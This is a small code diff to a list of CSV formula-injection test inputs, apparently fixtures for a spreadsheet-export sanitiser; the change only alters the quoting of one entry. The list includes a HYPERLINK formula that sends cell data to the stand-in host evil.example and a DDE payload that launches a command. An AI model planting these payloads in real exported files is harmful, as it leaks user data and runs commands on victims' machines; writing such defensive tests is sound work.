@@ -107,7 +107,7 @@ CSV_ATTACKS = [
     " =1+1",  # a leading space that some spreadsheets skip
     "\u00a0=1+1",
     "\uff1d1+1",  # full-width equals sign
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=cmd|' /C calc'!A0",
 ]
 
